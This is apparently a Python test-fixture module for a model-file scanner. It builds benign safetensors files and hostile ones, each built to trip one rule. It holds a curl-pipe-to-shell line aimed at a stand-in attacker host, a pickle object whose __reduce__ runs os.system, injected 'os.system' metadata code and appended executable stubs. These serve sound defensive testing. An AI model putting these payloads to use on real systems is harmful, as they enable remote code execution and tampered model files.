"""Build safetensors samples in code: real save_file output and hand-made headers, benign and hostile;
plus native executables and scripts to embed."""

from __future__ import annotations

import base64
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

F32_PAIR = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def elf_bytes() -> bytes:
    """A minimal ELF64 x86-64 executable header (never run; only its signature matters)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\0" * 8
    return ident + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 40 + b"payload"


def pe_bytes() -> bytes:
    """A DOS stub pointing at a PE header for an x86-64 DLL."""
    dos = bytearray(b"MZ" + b"\0" * 0x3E)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    dos += b"\0" * (0x80 - len(dos))
    return bytes(dos) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + b"\0" * 14 + struct.pack("<H", 0x2022)


def macho_bytes() -> bytes:
    """A 64-bit little-endian Mach-O header for ARM64 (MH_EXECUTE)."""
    return b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x0100000C, 0, 2) + b"\0" * 16


def macho_fat_bytes() -> bytes:
    """A universal binary header with two architectures (x86-64, ARM64)."""
    return b"\xca\xfe\xba\xbe" + struct.pack(">II", 2, 0x01000007) + b"\0" * 32


def java_class_bytes() -> bytes:
    """A Java class file: same magic as a fat Mach-O, but a class-file version where nfat_arch would be."""
    return b"\xca\xfe\xba\xbe" + struct.pack(">HH", 0, 61) + b"\0" * 32


SCRIPT = b"#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n"


def raw(header: bytes | str, data: bytes = b"", *, length: int | None = None) -> bytes:
    """A safetensors file from header text (used verbatim) and data bytes."""
    text = header.encode() if isinstance(header, str) else header
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def build(header: dict[str, object], data: bytes = b"", trailing: bytes = b"") -> bytes:
    """A safetensors file with `header` serialised as JSON, padded to 8 bytes as the writer pads it."""
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return raw(text, data + trailing)


def write(directory: Path, name: str, data: bytes) -> Path:
    path = directory / name
    path.write_bytes(data)
    return path


class MarkerPayload:
    """An object whose unpickling would run a harmless shell command that creates a marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, (f"touch {self.marker}",))


# -- benign, written by the real library ---------------------------------------------------------------


def torch_file(directory: Path) -> Path:
    import torch
    from safetensors.torch import save_file

    path = directory / "model.safetensors"
    tensors = {
        "weight": torch.randn(3, 4),
        "empty": torch.zeros(0, 3),
        "half": torch.ones(5, dtype=torch.float16),
        "brain": torch.ones(5, dtype=torch.bfloat16),
        "ids": torch.arange(7),
        "mask": torch.tensor([True, False, True]),
        "fp8": torch.ones(3, dtype=torch.float8_e4m3fn),
        "fp8b": torch.ones(3, dtype=torch.float8_e5m2),
        "scalar": torch.tensor(3.0),
        "bytes": torch.ones(3, dtype=torch.uint8),
        "i32": torch.ones(3, dtype=torch.int32),
        "f64": torch.ones(2, dtype=torch.float64),
    }
    save_file(tensors, path, metadata={"format": "pt", "note": "trained on 2 GPUs, lr=3e-4"})
    return path


def numpy_file(directory: Path) -> Path:
    import numpy as np
    from safetensors.numpy import save_file

    path = directory / "arrays.safetensors"
    arrays = {
        "x": np.ones((2, 2), np.float64),
        "c": np.ones(3, np.complex64),
        "s": np.ones(5, np.int16),
        "u": np.ones(4, np.uint32),
        "b": np.zeros(0, np.bool_),
    }
    save_file(arrays, path)
    return path


def empty_file(directory: Path) -> Path:
    from safetensors.numpy import save_file

    path = directory / "empty.safetensors"
    save_file({}, path, metadata={"format": "np"})
    return path


# -- hostile, one per rule -----------------------------------------------------------------------------


_ONE_TENSOR = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'


def header_too_large(directory: Path) -> Path:
    return write(directory, "huge_header.safetensors", raw(_ONE_TENSOR, length=100_000_001) + b"\0" * 16)


def header_past_end(directory: Path) -> Path:
    return write(directory, "short.safetensors", raw(_ONE_TENSOR, length=400))


def header_not_json(directory: Path) -> Path:
    return write(directory, "bad_json.safetensors", raw('{"a": {"dtype": "F32",,}}'))


def header_deep(directory: Path) -> Path:
    depth = 200
    return write(directory, "deep.safetensors", raw('{"a":' + "[" * depth + "]" * depth + "}"))


def header_not_utf8(directory: Path) -> Path:
    return write(directory, "latin.safetensors", raw(b'{"\xff":1}'))


def duplicate_key(directory: Path) -> Path:
    """The library keeps the second entry: an 8-byte U8 tensor where a reader keeping the first sees F32."""
    second = {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}
    text = '{"a":' + json.dumps(F32_PAIR) + ',"a":' + json.dumps(second) + "}"
    return write(directory, "duplicate.safetensors", raw(text, b"\0" * 8))


def bad_dtype(directory: Path) -> Path:
    header = {"a": {"dtype": "PY_OBJECT", "shape": [2], "data_offsets": [0, 8]}}
    return write(directory, "dtype.safetensors", build(header, b"\0" * 8))


def bad_shape(directory: Path) -> Path:
    header = {"a": {"dtype": "F32", "shape": [-1, 2], "data_offsets": [0, 8]}}
    return write(directory, "shape.safetensors", build(header, b"\0" * 8))


def size_mismatch(directory: Path) -> Path:
    header = {"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]}}
    return write(directory, "size.safetensors", build(header, b"\0" * 8))


def size_overflow(directory: Path) -> Path:
    """shape × dtype wraps to 0 in 64-bit arithmetic: 2**62 × 2**2 elements of 4 bytes."""
    header = {"a": {"dtype": "F32", "shape": [2**62, 4], "data_offsets": [0, 0]}}
    return write(directory, "overflow.safetensors", build(header))


def out_of_range(directory: Path) -> Path:
    header = {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    return write(directory, "range.safetensors", build(header, b"\0" * 8))


def overlapping(directory: Path) -> Path:
    header = {"a": F32_PAIR, "b": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}}
    return write(directory, "overlap.safetensors", build(header, b"\0" * 8))


def gap(directory: Path) -> Path:
    header = {
        "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        "b": {"dtype": "F32", "shape": [1], "data_offsets": [4 + len(elf_bytes()), 8 + len(elf_bytes())]},
    }
    return write(directory, "gap.safetensors", build(header, b"\0" * 4 + elf_bytes() + b"\0" * 4))


def appended_elf(directory: Path) -> Path:
    return write(directory, "appended.safetensors", build({"a": F32_PAIR}, b"\0" * 8, elf_bytes()))


def appended_to_real(directory: Path) -> Path:
    path = torch_file(directory)
    path.write_bytes(path.read_bytes() + elf_bytes())
    return path


def unaligned(directory: Path) -> Path:
    header = {
        "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]},
        "b": {"dtype": "F32", "shape": [1], "data_offsets": [1, 5]},
    }
    return write(directory, "unaligned.safetensors", build(header, b"\0" * 5))


def unknown_field(directory: Path) -> Path:
    header = {"a": {**F32_PAIR, "loader": "exec"}}
    return write(directory, "field.safetensors", build(header, b"\0" * 8))


def metadata_nested(directory: Path) -> Path:
    header = {"__metadata__": {"config": {"layers": 2}}, "a": F32_PAIR}
    return write(directory, "meta_type.safetensors", build(header, b"\0" * 8))


def metadata_pickle_base64(directory: Path) -> Path:
    blob = base64.b64encode(pickle.dumps(MarkerPayload(directory / "marker"))).decode()
    header = {"__metadata__": {"format": "pt", "state": blob}, "a": F32_PAIR}
    return write(directory, "meta_pickle.safetensors", build(header, b"\0" * 8))


def metadata_pickle_raw(directory: Path) -> Path:
    text = pickle.dumps(MarkerPayload(directory / "marker"), protocol=0).decode("latin-1")
    header = {"__metadata__": {"state": text}, "a": F32_PAIR}
    return write(directory, "meta_raw_pickle.safetensors", build(header, b"\0" * 8))


def metadata_elf_base64(directory: Path) -> Path:
    header = {"__metadata__": {"blob": base64.b64encode(elf_bytes()).decode()}, "a": F32_PAIR}
    return write(directory, "meta_elf.safetensors", build(header, b"\0" * 8))


def metadata_code(directory: Path) -> Path:
    header = {"__metadata__": {"post_load": "__import__('os').system('id')"}, "a": F32_PAIR}
    return write(directory, "meta_code.safetensors", build(header, b"\0" * 8))


def metadata_url(directory: Path) -> Path:
    header = {"__metadata__": {"homepage": "https://example.invalid/model"}, "a": F32_PAIR}
    return write(directory, "meta_url.safetensors", build(header, b"\0" * 8))


# -- executables ---------------------------------------------------------------------------------------


def pickle_with_elf(directory: Path) -> Path:
    return write(directory, "model.pkl", pickle.dumps({"w": [1.0, 2.0]}, protocol=4) + elf_bytes())


def torch_zip_with(directory: Path, member: str, data: bytes) -> Path:
    """A real torch.save checkpoint with one extra member written into its zip."""
    import torch

    path = directory / "model.pt"
    torch.save({"w": torch.ones(2)}, path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"model/{member}", data)
    return path


def standalone_elf(directory: Path) -> Path:
    return write(directory, "helper.bin", elf_bytes())


RULE_SAMPLES: dict[str, Callable[[Path], Path]] = {
    "SAFETENSORS-HEADER-LENGTH": header_too_large,
    "SAFETENSORS-HEADER-MALFORMED": header_not_json,
    "SAFETENSORS-DUPLICATE-KEY": duplicate_key,
    "SAFETENSORS-BAD-DTYPE": bad_dtype,
    "SAFETENSORS-BAD-SHAPE": bad_shape,
    "SAFETENSORS-SIZE-MISMATCH": size_mismatch,
    "SAFETENSORS-OFFSET-OUT-OF-RANGE": out_of_range,
    "SAFETENSORS-OVERLAPPING-TENSORS": overlapping,
    "SAFETENSORS-LAYOUT-GAP": gap,
    "SAFETENSORS-APPENDED-DATA": appended_elf,
    "SAFETENSORS-UNALIGNED-TENSOR": unaligned,
    "SAFETENSORS-UNKNOWN-FIELD": unknown_field,
    "SAFETENSORS-METADATA-TYPE": metadata_nested,
    "SAFETENSORS-METADATA-PAYLOAD": metadata_pickle_base64,
    "SAFETENSORS-METADATA-CODE": metadata_code,
    "SAFETENSORS-METADATA-URL": metadata_url,
    "EMBEDDED-EXECUTABLE": appended_elf,
}
"""Rule id -> a builder of one file that fires it (merged into the registry-wide coverage test)."""
